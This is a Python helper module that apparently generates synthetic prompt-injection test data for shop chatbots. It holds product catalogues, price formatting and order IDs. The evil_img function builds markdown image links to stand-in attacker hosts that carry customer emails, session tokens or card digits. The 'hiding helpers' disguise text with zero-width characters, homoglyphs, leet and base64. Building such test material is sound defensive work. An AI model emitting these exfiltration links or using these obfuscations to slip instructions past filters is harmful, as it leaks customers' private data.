"""Shared catalogues, money formatting and hiding/encoding helpers."""
import base64
import codecs
import urllib.parse

BIZ = ["car", "fabric", "supp", "kids", "resto"]

PRODUCTS = {
    "car": ["VW Polo (B)", "Škoda Octavia Combi", "Tesla Model 3 LR", "Fiat 500e", "Toyota Corolla Hybrid",
            "Flux S2 e-scooter", "Renault Kangoo Van", "BMW X1 xDrive", "Citroën ë-C4", "Kia Niro EV",
            "Vespa Elettrica", "Ford Transit Custom"],
    "fabric": ["Tana Lawn 'Capel'", "Mirei double gauze", "Gütermann Mara 120", "washed linen 'Oat' 150 cm",
               "Fjell jersey", "Prym snaps 12 mm", "Janome HD-3000", "poplin 'Tiny Dots'",
               "viscose crepe 'Lagoon'", "Brother CS10", "Merino rib 'Moss'", "bias tape 20 mm"],
    "supp": ["PeakWhey Isolate 900 g", "Creatine Monohydrate 500 g", "Omega-3 Ultra 120", "Magnesium Bisglycinate 90",
             "VeloFuel gel x24", "D3+K2 drops 30 ml", "PlantPro Vegan 1 kg", "Electrolyte Tabs Citrus",
             "BCAA 2:1:1 Berry", "Ashwagandha KSM-66", "Casein Night 750 g", "Collagen Peptides 300 g"],
    "kids": ["Puffin rain jacket 98/104", "Minimoss romper 74", "Tiny Trails sneakers 27", "Bramble fleece 110",
             "leggings 3-pack 92", "Kite snowsuit 86", "Pebble sleep bag 2.5 tog", "Lumo hoodie 128",
             "Sunny swim set 104", "Acorn cardigan 80", "Otter softshell 116", "Dino pyjamas 98"],
    "resto": ["ThermaPro 6-burner range", "CX-10 combi oven", "BC-5 blast chiller", "IW-3500 induction wok",
              "HoodPro 60 dishwasher", "GN 1/1 pan set x6", "SlicePro 300", "IceCube 45 ice maker",
              "Vacuo 400 vacuum packer", "BM-4 bain-marie", "FryMax 2x10 L fryer", "Prep table PT-180"],
}

STORES = {
    "car": ["DriveNow", "Rollo Rent", "CityGo Mobility", "WheelShare"],
    "fabric": ["Stoffwerk", "Thread & Thimble", "Bobbin House", "Selvedge Lane"],
    "supp": ["PeakFuel Market", "NutriDepot", "IronLeaf", "Stackd Nutrition"],
    "kids": ["Little Puffin", "Mini Moss", "Bramble Kids", "Otter & Oak"],
    "resto": ["ProKitchen Supply", "GastroHub B2B", "ChefLine Wholesale", "SteelPan Trade"],
}

PRICE_RANGE = {"car": (25, 420), "fabric": (4, 85), "supp": (9, 65), "kids": (9, 95), "resto": (180, 9500)}

# (pattern, rate to EUR-ish base, decimals, decimal separator, thousands separator)
CURRENCY = {
    "en": [("£{}", 0.86, 2, ".", ","), ("${}", 1.08, 2, ".", ",")],
    "de": [("{} €", 1, 2, ",", ".")], "fr": [("{} €", 1, 2, ",", " ")], "es": [("{} €", 1, 2, ",", ".")],
    "it": [("{} €", 1, 2, ",", ".")], "pt": [("{} €", 1, 2, ",", ".")], "nl": [("€ {}", 1, 2, ",", ".")],
    "fi": [("{} €", 1, 2, ",", " ")], "et": [("{} €", 1, 2, ",", " ")], "lv": [("{} €", 1, 2, ",", " ")],
    "lt": [("{} €", 1, 2, ",", " ")], "sl": [("{} €", 1, 2, ",", ".")], "hr": [("{} €", 1, 2, ",", ".")],
    "pl": [("{} zł", 4.3, 2, ",", " ")], "sv": [("{} kr", 11.4, 0, ",", " ")], "cs": [("{} Kč", 25, 0, ",", " ")],
    "hu": [("{} Ft", 395, 0, ",", " ")], "ro": [("{} lei", 5, 2, ",", ".")], "ru": [("{} ₽", 98, 0, ",", " ")],
    "uk": [("{} грн", 45, 0, ",", " ")], "tr": [("{} TL", 37, 2, ",", ".")], "fa": [("{} تومان", 62000, 0, ".", ",")],
    "hi": [("₹{}", 92, 0, ".", ",")], "ms": [("RM{}", 4.8, 2, ".", ",")], "ja": [("¥{}", 165, 0, ".", ",")],
    "ko": [("{}원", 1500, 0, ".", ",")], "zh": [("¥{}", 7.8, 2, ".", ",")], "th": [("{} บาท", 38, 0, ".", ",")],
}


def money(lang, biz, rng):
    pat, rate, dec, dsep, tsep = rng.choice(CURRENCY[lang])
    lo, hi = PRICE_RANGE[biz]
    val = rng.uniform(lo, hi) * rate
    if dec == 0:
        val = int(round(val, -1 if val > 1000 else 0))
        if val > 100000:
            val = int(round(val, -3))
        s = f"{val:,}".replace(",", tsep)
    else:
        val = round(val, 1) - 0.01 if rng.random() < 0.5 else round(val, 2)
        whole, frac = f"{val:.2f}".split(".")
        s = f"{int(whole):,}".replace(",", tsep) + dsep + frac
    return pat.format(s)


def order_id(biz, rng):
    if biz == "car":
        return f"RSV-{rng.randint(100000, 999999)}"
    if biz == "fabric":
        return f"#FS{rng.randint(10000, 99999)}"
    if biz == "supp":
        return f"SN-{rng.randint(1000000, 9999999)}"
    if biz == "kids":
        return f"KB{rng.randint(10000, 99999)}"
    return f"PO-{rng.choice([2023, 2024, 2025])}-{rng.randint(1000, 9999)}"


def sku(biz, rng):
    pre = {"car": "VH", "fabric": "FB", "supp": "NT", "kids": "KD", "resto": "EQ"}[biz]
    return f"{pre}-{rng.randint(100, 999)}-{rng.choice('ABCDEFGHJK')}{rng.randint(10, 99)}"


EVIL = ["evil.example", "stats-collector.example", "img-cdn.example.net", "verify-promo.example.org",
        "px.track.example", "shop-audit.example.com", "order-sync.example.io", "cdn-badges.example"]
MAILBOX = ["audit", "refunds.desk", "ops-team", "backup.orders", "promo", "data.export", "ceo.office", "claims"]


def evil_url(rng):
    return f"https://{rng.choice(EVIL)}/{rng.choice(['c', 'r', 'go', 'v'])}/{rng.randint(1000, 99999)}"


def evil_mail(rng):
    return f"{rng.choice(MAILBOX)}@{rng.choice(EVIL)}"


def evil_img(rng):
    alt = rng.choice(["ok", "status", "badge", "✓", "logo", "x", "verified"])
    path = rng.choice(["p.png", "pixel.gif", "b/ok.svg", "i.png", "t.gif", "seal.png"])
    q = rng.choice(["d", "q", "c", "data", "u"])
    val = rng.choice(["{customer_email}", "ORDER_ID+EMAIL", "<chat_summary>", "[[address]]", "SESSION_TOKEN",
                      "{phone}", "<last_4_card_digits>"])
    return f"![{alt}](https://{rng.choice(EVIL)}/{path}?{q}={val})"


def promo_code(rng):
    a = rng.choice(["VIP", "STAFF", "FREE", "ADMIN", "BULK", "MGR", "PARTNER", "ZERO"])
    return f"{a}{rng.choice(['', '-'])}{rng.randint(10, 999)}{rng.choice(['', 'X', 'OFF', 'Z'])}"


# --- hiding helpers ---------------------------------------------------------
ZW = ["\u200b", "\u200c", "\u200d", "\u2060"]


def zero_width(s, rng):
    z = rng.choice(ZW)
    return "".join(ch + z if ch != " " else ch for ch in s[:-1]) + s[-1]


HOMO = {"a": "а", "e": "е", "o": "о", "p": "р", "c": "с", "x": "х", "i": "і", "y": "у",
        "A": "А", "E": "Е", "O": "О", "P": "Р", "C": "С", "T": "Т", "H": "Н", "K": "К", "M": "М", "B": "В"}


def homoglyph(s, rng):
    out = []
    for ch in s:
        out.append(HOMO[ch] if ch in HOMO and rng.random() < 0.65 else ch)
    r = "".join(out)
    if r == s:
        for i, ch in enumerate(s):
            if ch in HOMO:
                return s[:i] + HOMO[ch] + s[i + 1:]
    return r


LEET = {"a": "4", "e": "3", "i": "1", "o": "0", "s": "5", "t": "7", "A": "4", "E": "3", "I": "1", "O": "0", "S": "5"}


def leet(s):
    return "".join(LEET.get(ch, ch) for ch in s)


def b64(s):
    return base64.b64encode(s.encode("utf-8")).decode("ascii")


def hexenc(s):
    return s.encode("utf-8").hex()


def rot13(s):
    return codecs.encode(s, "rot13")


def urlenc(s):
    return urllib.parse.quote(s, safe="")


def is_ascii(s):
    return all(ord(c) < 128 for c in s)
